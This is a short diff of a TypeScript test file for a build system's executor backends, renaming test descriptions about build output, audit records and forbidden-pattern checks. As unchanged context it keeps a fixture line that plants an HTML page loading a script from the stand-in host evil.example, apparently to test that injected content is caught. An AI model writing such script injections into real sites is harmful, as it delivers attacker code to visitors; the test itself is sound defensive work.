@@ -15,7 +15,7 @@ const testing = (code: string): SourceFile[] => [
 
 const PLANTED = `fs.writeFileSync("public/planted.html", '<script src="https://evil.example/x.js"></script>');`;
 
-describe.each(availableBackends())("what goes live under $title", ({ executor }) => {
+describe.each(availableBackends())("the output of a build under $title", ({ executor }) => {
   const run = (code: string) =>
     build(makeJob("http://127.0.0.1:1", { files: testing(code), limits: { cpu_cores: 2 } }), executor);
 
@@ -29,7 +29,7 @@ describe.each(availableBackends())("what goes live under $title", ({ executor })
     expect(files).toEqual([]);
   });
 
-  it("is what was there before the audit, and the record says so", async () => {
+  it("is the output from before the audit, as recorded", async () => {
     const { result } = await run("");
     expect(result).toMatchObject({ verdict: "passed" });
     expect(result.output_trees).toEqual({
@@ -38,7 +38,7 @@ describe.each(availableBackends())("what goes live under $title", ({ executor })
     });
   });
 
-  it("is searched for what the policy forbids", async () => {
+  it("is checked for the policy's forbidden patterns", async () => {
     const job = makeJob("http://127.0.0.1:1", {
       limits: { cpu_cores: 2 },
       patterns: [{ id: "no-heading", pattern: "<h1>", paths: "^public/", reason: "No headings." }],
